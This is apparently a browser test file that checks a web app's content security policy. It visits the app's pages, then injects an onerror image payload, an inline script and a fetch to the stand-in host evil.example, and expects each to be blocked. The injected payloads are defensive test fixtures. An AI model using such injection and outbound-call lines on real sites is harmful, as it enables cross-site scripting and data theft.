import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { chromiumPath, openBrowser, withoutBrowser, type Browser } from '../journeys/browser.ts'
import { buildPages } from '../journeys/pages-built.ts'
import { emptyFolder, serve, type Folder, type Program } from '../journeys/program.ts'

/** The content security policy in a real browser: the pages live within it, and what it forbids does not run. */
describe.skipIf(chromiumPath === null)(`content security policy${withoutBrowser}`, () => {
  let folder: Folder
  let program: Program
  let browser: Browser

  beforeAll(async () => {
    buildPages()
    folder = emptyFolder()
    program = await serve(folder.path)
    browser = await openBrowser(program.url)
    await browser.page.addInitScript(() => {
      const heard: string[] = []
      Object.assign(globalThis, { heard })
      document.addEventListener('securitypolicyviolation', (event) =>
        heard.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`),
      )
    })
  })
  afterAll(async () => {
    await browser?.close()
    await program?.stop()
    folder?.remove()
  })

  const heard = (): Promise<string[]> =>
    browser.page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard)

  test.each([
    '/',
    '/import',
    '/units',
    '/areas',
    '/coverage',
    '/blind-spots',
    '/plan',
    '/rules',
    '/guide/',
    '/guide/units.md',
  ])('%s breaks none of it', async (path) => {
    await browser.page.goto(path)
    await browser.page.waitForLoadState('networkidle')
    expect(await heard()).toEqual([])
  })

  test('script that got into a page does not run, and nothing is sent elsewhere', async () => {
    await browser.page.goto('/')
    const ran = await browser.page.evaluate(async () => {
      const place = document.createElement('div')
      place.innerHTML = '<img src="/nothing.png" onerror="globalThis.ranByHandler = true">'
      document.body.append(place)
      const script = document.createElement('script')
      script.textContent = 'globalThis.ranInline = true'
      document.body.append(script)
      const sent = await fetch('https://evil.example/').then(
        () => true,
        () => false,
      )
      await new Promise((next) => setTimeout(next, 200))
      const seen = globalThis as unknown as { ranInline?: boolean; ranByHandler?: boolean }
      return { inline: seen.ranInline ?? false, handler: seen.ranByHandler ?? false, sent }
    })
    expect(ran).toEqual({ inline: false, handler: false, sent: false })
    expect((await heard()).map((one) => one.split(' ')[0])).toEqual(
      expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src']),
    )
  })
})
